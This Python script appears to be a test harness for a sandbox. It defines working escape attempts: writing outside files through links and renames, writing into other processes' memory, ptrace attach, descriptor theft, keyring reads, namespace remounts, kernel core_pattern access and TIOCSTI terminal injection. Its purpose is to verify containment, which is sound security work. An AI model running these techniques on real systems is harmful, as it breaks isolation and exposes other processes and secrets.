"""Ways out of a sandbox, each a function: it returns what it got hold of, or raises.

    python attempts.py NAME ARGUMENT...

Prints `escaped: ...` and exits with 0 if it believes it got out, else `held: ...` and 1. The tests do not
take its word for it: they look at what was to be reached.
"""

from __future__ import annotations

import ctypes
import fcntl
import os
import resource
import signal
import socket
import struct
import sys
import termios
from collections.abc import Callable

libc = ctypes.CDLL(None, use_errno=True)
FREE = "FREE" in os.environ
"""There is no sandbox: whoever is root must not do to this machine what is tried in one."""
NEW_NS, NEW_USER, NEW_PID, NEW_CGROUP = 0x00020000, 0x10000000, 0x20000000, 0x02000000
MS_RDONLY, MS_REMOUNT, MS_BIND, MS_REC, MS_PRIVATE = 1, 32, 4096, 16384, 1 << 18
ARCHITECTURE = os.uname().machine
CALLS = {
    "x86_64": {"keyctl": 250, "add_key": 248, "pidfd_getfd": 438, "io_uring_setup": 425},
    "aarch64": {"keyctl": 219, "add_key": 217, "pidfd_getfd": 438, "io_uring_setup": 425},
}[ARCHITECTURE]


def check(result: int, what: str) -> int:
    if result < 0:
        code = ctypes.get_errno()
        raise OSError(code, f"{what}: {os.strerror(code)}")
    return result


def call(name: str, *arguments: object) -> int:
    return check(libc.syscall(CALLS[name], *arguments), name)


def mount(source: str | None, target: str, kind: str | None, flags: int) -> None:
    words = [None if text is None else text.encode() for text in (source, target, kind)]
    check(libc.mount(*words, ctypes.c_ulong(flags), None), "mount")


def overwrite(path: str) -> None:
    with open(path, "r+") as file:
        file.write("escaped")


# Files -------------------------------------------------------------------------------------------


def symlink(workspace: str, outside: str) -> str:
    """Write to a file outside through a link of one's own."""
    link = os.path.join(workspace, "link")
    os.symlink(outside, link)
    overwrite(link)
    return outside


def hard_link(workspace: str, outside: str) -> str:
    """Give a file outside a name inside and write to that."""
    link = os.path.join(workspace, "hard")
    os.link(outside, link)
    overwrite(link)
    return outside


def rename_out(workspace: str, outside: str) -> str:
    """Put a file of one's own in the place of one outside."""
    mine = os.path.join(workspace, "mine")
    with open(mine, "w") as file:
        file.write("escaped")
    os.rename(mine, outside)
    return outside


def rename_in(workspace: str, outside: str) -> str:
    """Take a file from outside away."""
    os.rename(outside, os.path.join(workspace, "taken"))
    return outside


def exchange(workspace: str, outside: str) -> str:
    """renameat2 with RENAME_EXCHANGE: swap a file inside with one outside."""
    mine = os.path.join(workspace, "swap")
    with open(mine, "w") as file:
        file.write("escaped")
    check(libc.renameat2(-100, mine.encode(), -100, outside.encode(), 2), "renameat2")
    return outside


def truncate(_workspace: str, outside: str) -> str:
    """Empty a file outside without opening it for writing."""
    os.truncate(outside, 0)
    return outside


def change_mode(_workspace: str, outside: str) -> str:
    """Let everybody write to it."""
    os.chmod(outside, 0o777)
    return outside


def change_times(_workspace: str, outside: str) -> str:
    os.utime(outside, (1, 1))
    return outside


def proc_root(_workspace: str, outside: str) -> str:
    """The same file by the root directories of processes."""
    for pid in ("self", "1", "2", str(os.getppid())):
        try:
            overwrite(f"/proc/{pid}/root{outside}")
        except OSError as error:
            reason = error
        else:
            return outside
    raise reason


def proc_cwd(_workspace: str, outside: str) -> str:
    """Up from a directory that somebody else has open."""
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                overwrite(f"/proc/{pid}/cwd/../../../../../../../../../..{outside}")
            except OSError:
                continue
            return outside
    raise PermissionError("nobody's directory leads out")


def device(_workspace: str, _outside: str) -> str:
    """Open a disk. Nothing is written."""
    for name in os.listdir("/sys/class/block"):
        with open(f"/sys/class/block/{name}/dev") as file:
            major, minor = map(int, file.read().split(":"))
        for path in (f"/dev/{name}", f"/dev/shm/{name}"):
            try:
                if path.startswith("/dev/shm"):
                    os.mknod(path, 0o60600, os.makedev(major, minor))
                os.close(os.open(path, os.O_RDWR))
            except OSError:
                continue
            finally:
                if path.startswith("/dev/shm") and os.path.exists(path):
                    os.unlink(path)
            return name
    raise PermissionError("no disk can be opened")


def protected(workspace: str, name: str) -> str:
    """Make a directory that did not exist and that somebody outside will trust, by any means."""
    path = os.path.join(workspace, name)
    ways: list[Callable[[], object]] = [
        lambda: os.makedirs(os.path.join(path, "hooks")),
        lambda: open(os.path.join(path, "config"), "w").close(),
        lambda: os.rmdir(path),
        lambda: os.unlink(path),
        lambda: os.rename(path, path + "-away"),
        lambda: os.rename(_made(workspace), path),
        lambda: os.symlink("/", path),
        lambda: check(libc.umount2(path.encode(), 2), "umount"),
        lambda: os.chmod(path, 0o777),
        lambda: mount(workspace, path, None, MS_BIND),
        lambda: mount(None, path, None, MS_REMOUNT | MS_BIND),
        lambda: os.rename(workspace, workspace + "-away"),
    ]
    done = []
    for number, way in enumerate(ways[:1] if FREE else ways):
        try:
            way()
        except OSError:
            continue
        done.append(number)
    if not done:
        raise PermissionError(f"{path} cannot be made")
    return f"{path} by {done}"


def _made(workspace: str) -> str:
    made = os.path.join(workspace, "made")
    os.makedirs(os.path.join(made, "hooks"), exist_ok=True)
    return made


# Other processes ---------------------------------------------------------------------------------


def memory(pid: str, address: str) -> str:
    """Write into the memory of a process outside."""
    with open(f"/proc/{pid}/mem", "r+b", buffering=0) as file:
        file.seek(int(address))
        file.write(b"escaped!")
    return pid


def process_vm(pid: str, address: str) -> str:
    data = ctypes.create_string_buffer(b"escaped!", 8)
    here = struct.pack("@PN", ctypes.addressof(data), 8)
    there = struct.pack("@PN", int(address), 8)
    check(libc.process_vm_writev(int(pid), here, 1, there, 1, 0), "process_vm_writev")
    return pid


def ptrace(pid: str, _address: str) -> str:
    """Take hold of a process outside."""
    check(libc.ptrace(16, int(pid), None, None), "ptrace")
    os.waitpid(int(pid), 0x40000000)
    libc.ptrace(17, int(pid), None, None)
    return pid


def kill(pid: str, _address: str) -> str:
    os.kill(int(pid), signal.SIGUSR1)
    return pid


def steal_descriptor(pid: str, _address: str) -> str:
    """Take a descriptor out of a process outside."""
    pidfd = os.pidfd_open(int(pid))
    return f"descriptor {call('pidfd_getfd', pidfd, 1, 0)}"


# The kernel --------------------------------------------------------------------------------------


def io_uring() -> str:
    """Have the kernel do it, past every filter."""
    return f"ring {call('io_uring_setup', 4, ctypes.create_string_buffer(120))}"


def netlink() -> str:
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as opened:
        opened.bind((0, 0))
    return "netlink"


def packet() -> str:
    socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0).close()
    return "packet"


def vsock() -> str:
    socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM).close()
    return "vsock"


def abstract_socket(name: str) -> str:
    with socket.socket(socket.AF_UNIX) as opened:
        opened.connect("\0" + name)
        return opened.recv(100).decode()


def datagram(path: str) -> str:
    """Tell somebody outside something, who need not even answer: a system log, a service manager."""
    with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as opened:
        opened.sendmsg([b"escaped"], [], 0, path)
    return path


def datagram_raw(path: str) -> str:
    """The same by another name."""
    with socket.socket(socket.AF_UNIX, socket.SOCK_RAW | socket.SOCK_CLOEXEC) as opened:
        opened.sendmsg([b"escaped"], [], 0, path)
    return path


def datagram_by_pair(path: str) -> str:
    """A datagram goes where its address says, whoever its socket is connected to."""
    ours, theirs = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    with ours, theirs:
        ours.sendmsg([b"escaped"], [], 0, path)
    return path


def own_server(path: str) -> str:
    """Ask the very server that made the sandbox for something without one, or take its place."""
    with socket.socket(socket.AF_UNIX) as opened:
        try:
            opened.connect(path)
        except OSError:
            os.unlink(path)
            return f"{path} is gone"
        opened.sendall(b"GET /readyz HTTP/1.1\r\nHost: localhost\r\n\r\n")
        return opened.recv(100).decode()


def tcp(port: str) -> str:
    with socket.create_connection(("127.0.0.1", int(port)), 5) as opened:
        return opened.recv(100).decode()


def descriptor_passed(path: str) -> str:
    """Be handed a descriptor of a file outside, and write to it."""
    with socket.socket(socket.AF_UNIX) as opened:
        opened.connect(path)
        _, descriptors, _, _ = socket.recv_fds(opened, 1, 1)
    os.write(descriptors[0], b"escaped")
    return path


def inherited_descriptors() -> str:
    """Something left open by whoever made the sandbox."""
    ours = os.open("/", os.O_RDONLY)
    names = set(os.listdir("/proc/self/fd")) - {"0", "1", "2", str(ours)}
    left = [name for name in names if os.path.exists(f"/proc/self/fd/{name}")]
    if not left:
        raise PermissionError("none")
    return ", ".join(os.readlink(f"/proc/self/fd/{name}") for name in left)


def key(description: str) -> str:
    """Read a key of whoever runs the server, from the session's keyring or the account's."""
    for keyring in (-3, -4, -5):
        found = libc.syscall(CALLS["keyctl"], 10, keyring, b"user", description.encode(), 0)
        if found < 0 and keyring == -4:
            libc.syscall(CALLS["keyctl"], 8, -4, -3)  # link the account's keyring into ours
            found = libc.syscall(CALLS["keyctl"], 10, -3, b"user", description.encode(), 0)
        if found >= 0:
            buffer = ctypes.create_string_buffer(100)
            size = libc.syscall(CALLS["keyctl"], 11, found, buffer, 100)
            if size >= 0:
                return buffer.raw[:size].decode()
    raise PermissionError("no such key")


def mounting(workspace: str, outside: str) -> str:
    """In a mount namespace of one's own, with a user namespace or without, mount over and around."""
    folder = os.path.dirname(outside)
    if libc.unshare(NEW_NS):
        check(libc.unshare(NEW_USER | NEW_NS), "unshare")
    # From here on in a mount namespace of our own.
    mount(None, "/", None, MS_REC | MS_PRIVATE)
    mount(workspace, folder, None, MS_BIND)
    return folder


def user_namespace(workspace: str, outside: str) -> str:
    """Become root of a user namespace and undo the sandbox with its capabilities."""
    libc.unshare(NEW_USER | NEW_NS)
    ways: list[Callable[[], object]] = [
        lambda: mount(None, "/", None, MS_REMOUNT | MS_BIND),
        lambda: mount(None, os.path.dirname(outside), None, MS_REMOUNT | MS_BIND),
        lambda: check(libc.umount2(os.path.join(workspace, ".git").encode(), 2), "umount"),
        lambda: mount(workspace, "/mnt", None, MS_BIND),
        lambda: mount(None, os.path.join(workspace, ".git"), None, MS_REMOUNT | MS_BIND),
    ]
    done = 0
    for way in () if FREE else ways:
        try:
            way()
        except OSError:
            continue
        done += 1
    for path in (outside, os.path.join(workspace, ".git", "config"), "/mnt/.git/config"):
        try:
            with open(path, "w") as file:
                file.write("escaped")
        except OSError:
            continue
        return path
    raise PermissionError(f"nothing to be written after {done} mounts")


def new_file_system(workspace: str) -> str:
    """Mount something of the kernel's, such as its groups of processes, as root of a user namespace."""
    if FREE:
        check(libc.unshare(NEW_NS), "unshare")
        mount(None, "/", None, MS_REC | MS_PRIVATE)
    else:
        libc.unshare(NEW_USER | NEW_NS | NEW_CGROUP)  # where that fails, what follows does too
    for kind in ("tmpfs",) if FREE else ("tmpfs", "cgroup2", "cgroup", "sysfs", "proc", "mqueue"):
        try:
            mount(kind, workspace, kind, 0)
        except OSError as error:
            reason = error
            continue
        return kind
    raise reason


def kernel_settings() -> str:
    """Be what the kernel runs when something crashes, or change anything else of it."""
    for path in ("/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/sys/kernel/uevent_helper"):
        try:
            os.close(os.open(path, os.O_WRONLY))
        except OSError:
            continue
        return path
    raise PermissionError("nothing of the kernel's can be opened for writing")


def kernel_settings_again() -> str:
    """The same as root of a user namespace, with mounts of one's own."""
    ways: list[Callable[[], object]] = [
        lambda: check(libc.umount2(b"/proc/sys", 2), "umount"),
        lambda: mount(None, "/proc/sys", None, MS_REMOUNT | MS_BIND),
        lambda: mount(None, "/proc", None, MS_REMOUNT | MS_BIND),
        lambda: mount("/proc", "/mnt", None, MS_BIND),
        lambda: mount("proc", "/mnt", "proc", 0),
        lambda: mount("sysfs", "/media", "sysfs", 0),
    ]
    if not FREE:
        check(libc.unshare(NEW_USER | NEW_NS | NEW_PID), "unshare")
        child = os.fork()  # which is the first to be in the new process namespace
        if child:
            _, status = os.waitpid(child, 0)
            sys.exit(os.waitstatus_to_exitcode(status))
        for way in ways:
            try:
                way()
            except OSError:
                continue
    for path in ("/proc/sys", "/mnt/sys", "/media/kernel/uevent_helper"):
        try:
            inside = path if path.startswith("/media") else f"{path}/kernel/core_pattern"
            os.close(os.open(inside, os.O_WRONLY))
        except OSError as error:
            reason = error
            continue
        return inside
    raise reason


def core_dump(_workspace: str, outside: str) -> str:
    """Crash in a directory outside, and leave memory there."""
    folder = os.path.dirname(outside)
    child = os.fork()
    if child == 0:
        resource.setrlimit(resource.RLIMIT_CORE, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
        os.chdir(folder)
        os.abort()
    _, status = os.waitpid(child, 0)
    if not os.WCOREDUMP(status):
        raise PermissionError("no core was written")
    return folder


def set_user(program: str) -> str:
    """A program that changes who runs it."""
    import subprocess

    euid = int(subprocess.run([program, "-u"], capture_output=True, check=True).stdout)
    if euid == os.geteuid():
        raise PermissionError(f"still {euid}")
    return f"user {euid}"


def type_ahead(_text: str) -> str:
    """Type into the terminal, for whoever reads it outside."""
    for char in "escaped\n":
        fcntl.ioctl(0, termios.TIOCSTI, char.encode())
    return "typed"


def main() -> None:
    name, *arguments = sys.argv[1:]
    try:
        got = globals()[name](*arguments)
    except OSError as error:
        sys.stdout.write(f"held: {error}\n")
        sys.exit(1)
    sys.stdout.write(f"escaped: {got}\n")


if __name__ == "__main__":
    main()
